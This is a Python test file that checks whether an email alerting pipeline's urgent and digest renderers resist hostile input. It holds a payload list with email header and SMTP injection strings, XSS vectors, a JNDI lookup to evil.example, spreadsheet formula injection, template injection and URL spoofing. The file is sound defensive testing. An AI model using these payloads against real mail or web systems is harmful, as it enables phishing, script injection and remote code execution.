"""Hostile text in every field: no new header, tag, link or host may come of it."""

import email
import re
from dataclasses import replace
from email.policy import default
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.alerting.digest import Coverage, DigestCounts
from pipeline.alerting.message import HEADERS, build_message
from pipeline.alerting.render import render_digest, render_urgent

BASES = (
    "=?UTF-8?Q?x=0D=0AReply-To:_evil@evil.example?=",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=",
    "x\r\nBcc: evil@evil.example",
    "x\nBcc: evil@evil.example\n\nbody",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\x0bReply-To: e@evil.example",
    "x\x1c\x1d\x1e\x85Bcc: e@evil.example",
    "x\u2028Bcc: e@evil.example\u2029",
    "\x00nul\ud800surrogate",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<a href='https://evil.example'>click</a>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</td></tr></table><iframe src=//evil.example>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<form action=https://evil.example><input name=q>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "https://x.com@evil.example/a/status/1",
    "https://x.com.evil.example/a/status/1",
    "https://evil.example/?u=https://x.com/a/status/1",
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}",
    "${jndi:ldap://evil.example/a}",
    "\u202egpj.exe\u2066\u200f",
    "=cmd|' /C calc'!A0",
    "--=_boundary--\r\nContent-Type: text/html",
    "\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "a" * 5_000,
    "𝕌𝕣𝕘𝕖𝕟𝕥 ＝？utf-8？q？x？＝",
    "&lt;script&gt;&#x3c;b&#62;",
)
PAYLOADS = (
    *BASES,
    *(f"The shot {base} harms" for base in BASES),
    *(base * 3 for base in BASES),
    *map(str.upper, BASES),
)

TAGS = frozenset(
    ("html", "head", "meta", "title", "style", "body", "table", "tbody", "tr", "td", "div", "span", "b", "a", "br")
)
LINKED_HOSTS = frozenset(("www.reddit.com", "x.com", "journal.org", "institute.org"))


class Seen(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.hosts, self.styles = set(), set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        if tag == "style":
            self.styles.append(self.getpos())
        self.hosts |= {urlsplit(value).hostname for name, value in attrs if name in {"href", "src"}}


def _check(rendered, now):
    message_id, message = build_message(rendered, "auscult@clinic.org", "a@b.org", "key", now)
    parsed = email.message_from_bytes(message, policy=default)
    assert set(parsed.keys()) == HEADERS
    assert len(parsed.keys()) == len(HEADERS)
    assert parsed["Message-ID"] == message_id
    assert b"=?" not in message.split(b"\r\n\r\n", 1)[0]
    assert not parsed.defects
    text, html = parsed.iter_parts()
    seen = Seen()
    seen.feed(html.get_content())
    assert seen.tags <= TAGS
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert not seen.attributes & {"src", "srcset", "background", "action", "http-equiv", "data", "formaction"}
    assert seen.hosts <= LINKED_HOSTS
    assert len(seen.styles) == 1
    for content in (text.get_content(), html.get_content()):
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x00\x0b\x1c\x85\u2028]", content)
        assert "https://evil.example" not in "".join(re.findall(r'href="[^"]*"', content))
        assert len(content) < 60_000
    # No hostile line may stand as a heading or a header of its own in the plain part.
    assert not re.search(r"(?m)^(?:Bcc|Reply-To|MAIL FROM|Content-Type)\b", text.get_content())


def _urgent_mails(bad, alert, mention_alert, facts, now):
    posts = [
        {"platform": bad, "platform_id": bad, "url": bad},
        {"platform": "x", "platform_id": bad, "url": bad},
        {"platform": "reddit", "platform_id": "t3_abc", "url": bad},
    ]
    evidence = alert.evidence | {"posts": posts}
    worst = replace(
        alert, evidence=evidence, platforms=(bad, "x"), claim_id=bad, alert_key=bad, practice_id=bad, reasons=(bad,)
    )
    named = replace(
        mention_alert,
        evidence=mention_alert.evidence | {"terms": [bad], "posts": posts},
        category=bad,
        platforms=(bad,),
    )
    source = {"publisher": bad, "title": bad, "address": bad, "date": bad, "verified": True}
    worst_facts = replace(
        facts,
        claim=bad,
        rating=bad,
        harm=bad,
        correction=bad,
        review_note=bad,
        harm_reason=bad,
        evidence=(source, source | {"verified": bad}, *facts.evidence),
    )
    return (
        worst,
        named,
        worst_facts,
        (
            render_urgent(worst, worst_facts, bad, "America/New_York", now),
            render_urgent(worst, None, bad, "America/New_York", now),
            render_urgent(named, None, bad, "America/New_York", now),
            render_urgent(replace(named, category=f"urgent:{bad}"), None, bad, "UTC", now),
        ),
    )


def _digest(bad, worst, named, worst_facts, now):
    counts = DigestCounts(now, now, 9, 9, 1, ((bad, 3), ("vax-harm", 2)), 1)
    coverage = [Coverage(bad, "off", 0, None, bad), Coverage("x", "failed", 0, now, bad)]
    return render_digest([worst, named], {bad: worst_facts, "vax-harm": worst_facts}, counts, coverage, bad, "UTC", now)


@pytest.mark.parametrize("bad", PAYLOADS)
def test_no_payload_adds_a_header_tag_link_or_host(bad, alert, mention_alert, facts, now):
    worst, named, worst_facts, mails = _urgent_mails(bad, alert, mention_alert, facts, now)
    for rendered in (*mails, _digest(bad, worst, named, worst_facts, now)):
        assert rendered.subject.isascii()
        assert rendered.subject.isprintable()
        assert len(rendered.subject) <= 120
        _check(rendered, now)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(bad=st.text(st.characters(categories=None), max_size=200))
def test_no_text_at_all_does(bad, alert, mention_alert, facts, now):
    worst, named, worst_facts, mails = _urgent_mails(bad, alert, mention_alert, facts, now)
    for rendered in (*mails, _digest(bad, worst, named, worst_facts, now)):
        _check(rendered, now)
